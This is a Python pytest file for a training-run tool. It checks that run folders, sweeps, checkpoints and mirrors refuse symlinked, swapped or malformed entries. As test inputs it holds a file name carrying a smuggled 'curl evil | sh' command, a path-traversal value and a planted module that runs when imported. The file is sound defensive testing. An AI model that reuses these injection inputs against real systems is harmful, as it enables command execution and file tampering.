"""Archives and shared folders whose entries are of another kind than a run's, or are swapped while they are used."""

from __future__ import annotations

import json
import os
import pickle
import sqlite3
import subprocess
import zipfile
from collections.abc import Iterator
from contextlib import closing, suppress
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import workbench as wb
from tests.attacks.hostile import replaced
from tests.attacks.test_code import SOMEBODY
from tests.attacks.test_files import META, soon
from tests.conftest import CALM
from tests.played import checkpoint_in
from tests.widgets import recorded, swept
from workbench import checkpoints
from workbench.checkpoints import Checkpoint
from workbench.checkpoints.checkpoint import digest
from workbench.cli.commands import run as command
from workbench.copies import run_copy
from workbench.errors import CheckpointCorrupt, InvalidInput, OutOfBounds, StorageFailed, WorkbenchError
from workbench.launchers import colab
from workbench.rundir import RunDirectory, files

WEIGHTS = {"model": {"weight": np.eye(3, dtype=np.float32)}}


@pytest.fixture
def bad(home: Path) -> RunDirectory:
    run = recorded.vtrace("bad")
    run.write(state="stopped")
    return run


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    """A folder of the user's that has nothing to do with runs."""
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "model.pkl").write_bytes(pickle.dumps([1, 2, 3]))
    (folder / "thesis").write_text("dear to me")
    return folder


def contents(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


@pytest.mark.parametrize("what", ["run", "opponent", "sweep", "run of a sweep"])
def test_trust_in_a_runs_code_writes_through_no_link(bad: RunDirectory, mine: Path, what: str) -> None:
    before = contents(mine)
    sweep = swept.by_hand("theirs") if "sweep" in what else None
    code = {"run": bad.code, "opponent": bad.opponent.code}.get(what) or (
        sweep.path / "code" if what == "sweep" and sweep else sweep._folder.run(1).code)  # type: ignore[union-attr]
    with suppress(FileNotFoundError):
        code.rmdir()
    code.parent.mkdir(exist_ok=True)
    code.symlink_to(mine)
    with pytest.raises(StorageFailed, match="is a link to"):
        if sweep is None:
            wb.resume(bad.path, trust_code=True, wait_ready=False)
        else:
            sweep.resume(trials=30, trust_code=True)
    assert contents(mine) == before


@pytest.mark.parametrize("name", ["stop", "lock", "start.lock", "sweep.log", "code"])
def test_a_sweep_with_an_entry_of_another_kind_is_refused_by_our_own_error(home: Path, name: str) -> None:
    sweep = swept.by_hand("theirs")
    path = sweep.path / name
    if name == "code":
        path.rmdir()
        path.touch()
    else:
        path.unlink(missing_ok=True)
        path.mkdir()
    with soon(), pytest.raises(StorageFailed, match="Move it away"):
        sweep.resume(trials=30)
    with soon(), suppress(WorkbenchError):
        sweep.stop()
    with soon():
        assert [row.name for row in wb.sweeps()] == ["theirs"]


@pytest.mark.parametrize("kind", ["folder", "fifo"])
@pytest.mark.parametrize("name", ["lock", "start.lock", "control.sock", "learner.sock", "rendezvous",
                                  "logs/supervisor.log", "logs/learner.log", "logs/learner.error.json",
                                  "logs/actor-0.log", "evaluations.jsonl", "token"])  # fmt: skip
def test_a_run_with_an_entry_of_another_kind_neither_goes_on_nor_plays(
    bad: RunDirectory, tmp_path: Path, name: str, kind: str
) -> None:
    there = checkpoint_in(tmp_path / "theirs", "CartPole-v1")
    for run in (bad.path, there.path.parents[1]):
        replaced(run / name, kind)
    with soon(), pytest.raises(StorageFailed, match="plain file"):
        wb.resume(bad.path)
    for play in (wb.rollout, wb.evaluate, wb.play):
        with soon(), pytest.raises(WorkbenchError, match="no plain file"):
            play(there.path.parents[1])


@pytest.mark.parametrize("name", ["logs", "tls", "endpoints", "tensorboard", "checkpoints", "rollouts"])
def test_a_run_with_a_file_in_the_place_of_a_folder_does_not_go_on(bad: RunDirectory, name: str) -> None:
    with suppress(FileNotFoundError):
        (bad.path / name).rmdir()
    (bad.path / name).touch()
    with soon(), pytest.raises(StorageFailed, match="is no folder"):
        wb.resume(bad.path)


def test_an_archive_without_empty_folders_goes_on(bad: RunDirectory, monkeypatch: pytest.MonkeyPatch) -> None:
    for folder in (bad.logs, bad.tensorboard, bad.code, bad.checkpoints):
        folder.rmdir()

    def started(run: RunDirectory, *_: Any, **__: Any) -> None:
        files.to_append(run.logs / "supervisor.log").close()

    monkeypatch.setattr("workbench.running.launch.started", started)
    wb.resume(bad.path)
    assert bad.logs.stat().st_mode & 0o777 == 0o700


def test_what_vanishes_while_a_folder_is_looked_at_is_no_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "kept").mkdir()
    for gone in (tmp_path / "gone", tmp_path / "kept" / "gone"):
        gone.touch()
    listed = Path.iterdir

    def iterdir(folder: Path) -> Iterator[Path]:
        for path in listed(folder):
            if path.name == "gone":
                path.unlink()
            yield path

    monkeypatch.setattr(Path, "iterdir", iterdir)
    files.check_unlinked(tmp_path)
    files.check_unlinked(tmp_path / "nowhere")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root becomes another user")
def test_a_folder_that_cannot_be_looked_at_is_our_own_error(tmp_path: Path) -> None:
    (tmp_path / "private").mkdir(mode=0o700)
    os.seteuid(SOMEBODY)
    try:
        with pytest.raises(StorageFailed, match="cannot look at"):
            files.check_unlinked(tmp_path)
        with pytest.raises(InvalidInput, match="there is no checkpoint"):
            checkpoints.at(tmp_path / "private" / "000000000001")
    finally:
        os.seteuid(0)


def test_what_an_error_says_to_type_is_one_word_for_each_file(tmp_path: Path) -> None:
    (tmp_path / "a; curl evil | sh").touch()
    os.link(tmp_path / "a; curl evil | sh", tmp_path / "b")
    with pytest.raises(StorageFailed, match="has another name elsewhere") as refused:
        files.check_unlinked(tmp_path)
    assert "cp '" in str(refused.value) or f"cp {tmp_path / 'b'} " in str(refused.value)
    assert "cp /" not in str(refused.value) or "curl" not in str(refused.value)


def test_a_checkpoint_that_is_a_link_to_itself_hides_no_other(bad: RunDirectory) -> None:
    made = checkpoints.write(bad.checkpoints, frames=7, requested=True, meta=META, groups=WEIGHTS)
    loop = bad.checkpoints / "000000000009"
    loop.symlink_to(loop.name)
    assert [one.path for one in wb.attach("bad").checkpoints] == [made.path]
    assert checkpoints.newest_good(bad.checkpoints)[0] == made


@pytest.mark.parametrize("name", [".writing-²-x", ".removing-x", ".writing-"])
def test_remains_of_any_name_stop_no_checkpoint(bad: RunDirectory, name: str) -> None:
    (bad.checkpoints / name).mkdir()
    made = checkpoints.write(bad.checkpoints, frames=7, requested=True, meta=META, groups=WEIGHTS)
    assert checkpoints.every(bad.checkpoints) == [made]


@pytest.mark.parametrize("by", ["link", "fifo", "other"])
@pytest.mark.parametrize("target", ["taken", "taken.zip"])
def test_an_export_takes_no_file_along_that_took_the_place_of_the_description(
    bad: RunDirectory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, target: str, by: str
) -> None:
    made = checkpoints.write(bad.checkpoints, frames=1, requested=True, meta=META, groups=WEIGHTS)
    meta, secret, verify = made.path / "meta.json", tmp_path / "secret", Checkpoint.verify
    secret.write_text("a key")

    def verified(self: Checkpoint, **how: Any) -> None:
        verify(self, **how)
        meta.unlink()
        meta.symlink_to(secret) if by == "link" else replaced(meta, by)

    monkeypatch.setattr(Checkpoint, "verify", verified)
    path = checkpoints.export(made, tmp_path / target)
    monkeypatch.undo()
    if path.suffix:
        with zipfile.ZipFile(path) as archive:
            archive.extractall(tmp_path / "unzipped")
        path = tmp_path / "unzipped" / "taken"
    copy = checkpoints.at(path)
    copy.verify()
    assert (copy.meta, copy.files, copy.created) == (made.meta, made.files, made.created)


def test_a_folder_is_tried_for_writing_through_no_link(
    tmp_path: Path, mine: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WORKBENCH_MIRROR", "")  # so that it is put back
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / ".writable").symlink_to(mine / "thesis")
    colab.prepare(shared)
    assert (mine / "thesis").read_text() == "dear to me" and (shared / ".writable").is_symlink()


@pytest.mark.parametrize("by", ["fifo", "device", "folder", "sparse", "{"])
def test_a_mirror_whose_newest_description_is_none_is_written_anew(
    bad: RunDirectory, tmp_path: Path, by: str
) -> None:
    made = checkpoints.write(bad.checkpoints, frames=1, requested=True, meta=META, groups=WEIGHTS)
    assert run_copy.copy(bad, tmp_path / "drive") == 1
    assert run_copy.copy(bad, tmp_path / "drive") is None
    copied = tmp_path / "drive" / "bad" / "checkpoints" / made.path.name
    replaced(copied / "meta.json", by)
    with soon():
        assert run_copy.copy(bad, tmp_path / "drive") == 1
    checkpoints.at(copied).verify()


@pytest.mark.parametrize("name", ["a#b", "50%41", "a?mode=memory"])
def test_a_run_in_a_home_of_any_name_is_mirrored_with_its_history(
    bad: RunDirectory, tmp_path: Path, name: str
) -> None:
    checkpoints.write(bad.checkpoints, frames=1, requested=True, meta=META, groups=WEIGHTS)
    (tmp_path / name).mkdir()
    run = RunDirectory(bad.path.rename(tmp_path / name / "bad"))
    assert run_copy.copy(run, tmp_path / "drive") == 1
    with closing(sqlite3.connect(tmp_path / "drive" / "bad" / "metrics.sqlite")) as history:
        assert history.execute("select count(*) from metrics").fetchone()[0]


def test_a_mirrored_record_with_fields_of_any_name_is_restored(bad: RunDirectory, tmp_path: Path) -> None:
    checkpoints.write(bad.checkpoints, frames=1, requested=True, meta=META, groups=WEIGHTS)
    source = RunDirectory(bad.path.rename(tmp_path / "bad"))
    source.record.write_text(json.dumps({**source.read(), "self": 1, "cls": 2}))
    assert colab.restored("bad", tmp_path) == "bad"


def test_a_run_that_failed_without_a_word_is_our_own_error(bad: RunDirectory) -> None:
    for message in ("", " \n"):
        bad.write(error={"type": "Odd", "message": message})
        with pytest.raises(InvalidInput, match="has no checkpoint yet. It failed: Odd$"):
            wb.evaluate(bad.path)


@pytest.mark.parametrize("time_s", [float("inf"), float("nan"), -1.0, "1", None, 10**400])
def test_a_checkpoint_of_odd_times_is_damaged(bad: RunDirectory, time_s: Any) -> None:
    made = checkpoints.write(bad.checkpoints, frames=1, requested=True, meta=META, groups=WEIGHTS)
    content = json.loads((made.path / "meta.json").read_text())
    content = {key: value for key, value in content.items() if key != "sha256"}
    content["meta"]["time_s"] = time_s
    replaced(made.path / "meta.json", json.dumps({**content, "sha256": digest(content)}))
    with pytest.raises(CheckpointCorrupt):
        checkpoints.at(made.path)


def test_a_run_of_the_longest_name_is_not_deleted_by_our_own_error(bad: RunDirectory) -> None:
    run = RunDirectory(bad.path.rename(bad.path.with_name("x" * 255)))
    with pytest.raises(StorageFailed, match="cannot move"):
        wb.attach(run.path).delete()
    assert run.read()["state"] == "stopped"


def test_jupyterlab_takes_no_module_of_the_folder_in_which_it_is_opened(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "jupyterlab.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(os, "execv", lambda program, words: subprocess.run(
        [*words[:words.index("jupyterlab") + 1], "--version"], check=True, timeout=240))
    for variable in ("JUPYTER_PATH", "JUPYTER_CONFIG_PATH"):
        monkeypatch.setenv(variable, "")  # so that it is put back
    command(["lab"])
    assert not (tmp_path / "ran").exists()


def nested(depth: int) -> Any:
    inner: Any = 1
    for _ in range(depth):
        inner = {"a": inner}
    return inner


@pytest.mark.parametrize("depth", [200, 450, 700])
def test_json_that_is_nested_deeper_than_a_run_writes_it_is_damaged(bad: RunDirectory, depth: int) -> None:
    record = bad.read()
    for change in ({"notes": nested(depth)}, {"config": {**record["config"], "environment_options": nested(depth)}}):
        replaced(bad.record, json.dumps({**record, **change}))
        assert [(row.name, row.state) for row in wb.runs()] == [("bad", "damaged")]
        for look in (lambda: wb.attach("bad").card(), lambda: wb.resume("bad"), lambda: bad.write(state="stopped")):
            with soon(), pytest.raises(StorageFailed, match="nested deeper"):
                look()
    replaced(bad.record, json.dumps(record))
    made = checkpoints.write(bad.checkpoints, frames=1, requested=True, meta=META, groups=WEIGHTS)
    content = json.loads((made.path / "meta.json").read_text())
    content = {key: value for key, value in content.items() if key != "sha256"}
    content["meta"]["x"] = nested(depth)
    replaced(made.path / "meta.json", json.dumps({**content, "sha256": digest(content)}))
    with soon(), pytest.raises(CheckpointCorrupt, match="nested deeper"):
        checkpoints.at(made.path)
    assert wb.attach("bad").checkpoints == []


def test_a_population_of_any_size_is_not_begun(home: Path) -> None:
    sweep = swept.by_hand("theirs")
    record = json.loads((sweep.path / "sweep.json").read_text())
    for members in (10**9, 0, -1):
        replaced(sweep.path / "sweep.json", json.dumps({**record, "sampler": "pbt", "members": members}))
        with soon(), pytest.raises(OutOfBounds, match="members"):
            wb.attach_sweep("theirs").resume()
    replaced(sweep.path / "sweep.json", json.dumps({**record, "members": "many"}))
    assert [row.state for row in wb.sweeps()] == ["damaged"]


def test_a_trial_that_forks_what_is_no_trial_is_named(home: Path) -> None:
    swept.by_hand("theirs")
    with closing(sqlite3.connect(wb.attach_sweep("theirs").path / "study.sqlite")) as theirs:
        theirs.execute("""insert into trial_user_attributes (trial_id, key, value_json)
                          values (1, 'of', '"1/../../elsewhere"')""")
        theirs.commit()
    assert [row.state for row in wb.sweeps()] == ["damaged"]


def test_a_run_that_is_resumed_has_secrets_that_nobody_knows_who_made_its_files(
    bad: RunDirectory, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever packed the archive knows the token in it, and the key of the certificate."""
    for path in (bad.certificate, bad.certificate_key, bad.endpoints / "supervisor.json"):
        path.parent.mkdir(mode=0o700, exist_ok=True)
        path.write_text("theirs")
    theirs = bad.token()
    (bad.path / "token").chmod(0o644)  # as unzip leaves it
    monkeypatch.setattr("workbench.running.launch.started", lambda run, place, prepare, **_: prepare())
    wb.resume(bad.path)
    assert bad.token() != theirs
    assert not bad.certificate.exists() and not bad.certificate_key.exists() and not bad.endpoints.exists()


@pytest.mark.full
def test_a_handle_from_before_a_resume_calls_with_the_new_token(home: Path) -> None:
    run = wb.launch("testing/counting-v0", name="mine", **CALM)
    run.stop()
    before = run.directory.token()
    wb.resume("mine").wait(updates=run.status.updates + 1, timeout_s=240)
    assert run.directory.token() != before and run.status.state == "training"
    run.tune(learning_rate=1e-3)
    assert run.stop().state == "stopped"
